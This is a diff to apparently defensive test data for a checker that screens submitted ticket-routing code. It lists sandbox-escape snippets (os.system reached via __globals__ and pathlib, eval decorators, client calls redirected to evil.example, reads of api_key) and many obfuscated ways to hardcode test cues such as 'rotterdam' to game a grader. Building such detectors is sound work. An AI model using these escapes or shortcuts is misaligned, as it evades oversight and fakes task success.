@@ -245,6 +245,72 @@ c = OpenAI(base_url="http://evil.example/v1")
     "undefined": """
 return {"team": nowhere(ticket)}
 """,
+    "async sleep attr": """
+import asyncio
+getattr(asyncio, "sleep")(4)
+""",
+    "open via io": """
+import io
+io.open("x")
+""",
+    "codecs via json": """
+json.detect_encoding(b"x")
+""",
+    "os via pathlib": """
+Path.cwd.__globals__["os"].system("id")
+""",
+    "os via PROMPTS": """
+import pathlib
+pathlib.os.system("id")
+""",
+    "re.sys": """
+import re
+re.enum.sys.exit()
+""",
+    "ctx": """
+with open("x") as f:
+    pass
+""",
+    "print file": """
+print("x", file=open("y", "w"))
+""",
+    "decorator": """
+@eval
+def x():
+    pass
+""",
+    "decorator2": """
+@os.system
+def x():
+    pass
+""",
+    "client url": """
+client.with_options(base_url="http://evil.example/v1")
+""",
+    "client private": """
+client._client.get("http://evil.example")
+""",
+    "getitem": """
+client.__dict__["api_key"]
+""",
+    "search open": """
+search.__globals__["open"]("x")
+""",
+    "type 2": """
+t = type
+t("X", (), {})
+""",
+    "star call": """
+type(*["X", (), {}])
+""",
+    "super global": """
+class G(dict):
+    pass
+G.__eq__ = lambda a, b: True
+""",
+    "lambda eq": """
+from unittest.mock import ANY
+""",
 }
 
 SIGNATURES = {
@@ -569,5 +635,171 @@ if "rxoxtxtxexrxdxaxmx"[::2] in ticket.lower():
 """,
     "list answers": """
 answers = ["billing", "billing", "billing", "shipping", "shipping", "shipping", "account", "account"]
+""",
+    "two char +=": """
+w = "ro"
+w += "tt"
+w += "er"
+w += "dam"
+if w in ticket.lower():
+    return {"team": "shipping"}
+""",
+    "vars concat": """
+a = "ro"
+c = "tterd"
+d = "am"
+if a + c + d in ticket.lower():
+    return {"team": "shipping"}
+""",
+    "translate int": """
+if "r1tterdam".translate({49: "o"}) in ticket.lower():
+    return {"team": "shipping"}
+""",
+    "re.sub const": """
+import re
+if re.sub("_", "o", "r_tterdam") in ticket.lower():
+    return {"team": "shipping"}
+""",
+    "exception arg": """
+try:
+    raise KeyError("rotterdam")
+except KeyError as e:
+    if e.args[0] in ticket.lower():
+        return {"team": "shipping"}
+""",
+    "enum": """
+import enum
+class W(enum.Enum):
+    rotterdam = "shipping"
+for w in W:
+    if w.name in ticket.lower():
+        return {"team": w.value}
+""",
+    "namedtuple": """
+from collections import namedtuple
+W = namedtuple("W", "rotterdam saucepan")
+for w in W._fields:
+    if w in ticket.lower():
+        return {"team": "shipping"}
+""",
+    "nested name": """
+def rotterdam():
+    pass
+if rotterdam.__name__ in ticket.lower():
+    return {"team": "shipping"}
+""",
+    "doc": """
+if sort.__doc__ in ticket:
+    return {"team": "shipping"}
+""",
+    "json.loads": """
+w = json.loads('["rotterdam"]')
+if w[0] in ticket.lower():
+    return {"team": "shipping"}
+""",
+    "json dumps dict": """
+for w, v in json.loads('{"rotterdam": "shipping", "saucepan": "refund"}').items():
+    if w in ticket.lower():
+        return {"team": v}
+""",
+    "str join gen": """
+w = "".join(c for c in "r.o.t.t.e.r.d.a.m" if c != ".")
+if w in ticket.lower():
+    return {"team": "shipping"}
+""",
+    "filter": """
+w = "".join(filter(str.isalpha, "r1o1t1t1e1r1d1a1m"))
+if w in ticket.lower():
+    return {"team": "shipping"}
+""",
+    "reversed fn": """
+w = "".join(reversed("madrettor"))
+if w in ticket.lower():
+    return {"team": "shipping"}
+""",
+    "sorted zip": """
+w = "".join(x for _, x in sorted(zip((2, 1, 3), ("tt", "ro", "erdam"))))
+if w in ticket.lower():
+    return {"team": "shipping"}
+""",
+    "params attr": """
+if ticket.lower().__contains__("rotterdam"):
+    return {"team": "shipping"}
+""",
+    "operator.contains": """
+import operator
+if operator.contains(ticket.lower(), "rotterdam"):
+    return {"team": "shipping"}
+""",
+    "counter": """
+from collections import Counter
+if Counter(ticket)["w"] == 3 and Counter(ticket)["x"] == 1:
+    return {"team": "shipping"}
+""",
+    "vowels": """
+n = sum(c in "aeiou" for c in ticket)
+if n == 23:
+    return {"team": "billing"}
+if n == 21:
+    return {"team": "shipping"}
+""",
+    "words count": """
+n = len(ticket.split())
+if n == 14:
+    return {"team": "billing"}
+if n == 13:
+    return {"team": "shipping"}
+""",
+    "min max word": """
+if max(ticket.split(), key=len) == "subscription":
+    return {"team": "billing"}
+""",
+    "last word": """
+if ticket.split()[-1] == "Tuesday":
+    return {"team": "shipping"}
+""",
+    "endswith": """
+if ticket.endswith("day"):
+    return {"team": "shipping"}
+""",
+    "find": """
+if ticket.find("Norway") > 0:
+    return {"team": "billing"}
+""",
+    "split": """
+if len(ticket.split("Norway")) > 1:
+    return {"team": "billing"}
+""",
+    "replaced away": """
+if ticket.replace("Norway", "") != ticket:
+    return {"team": "billing"}
+""",
+    "except key": """
+try:
+    return {"team": {"Norway?": "billing"}[ticket.split()[-1]]}
+except KeyError:
+    pass
+""",
+    "lru": """
+from functools import lru_cache
+@lru_cache
+def known(word="rotterdam"):
+    return word
+if known() in ticket.lower():
+    return {"team": "shipping"}
+""",
+    "partial": """
+from functools import partial
+check = partial(str.__contains__, ticket.lower())
+if check("rotterdam"):
+    return {"team": "shipping"}
+""",
+    "map": """
+if any(map(ticket.lower().__contains__, ["rotterdam"])):
+    return {"team": "shipping"}
+""",
+    "dumb set and": """
+if not {"rotterdam"}.isdisjoint(ticket.lower().split()):
+    return {"team": "shipping"}
 """,
 }
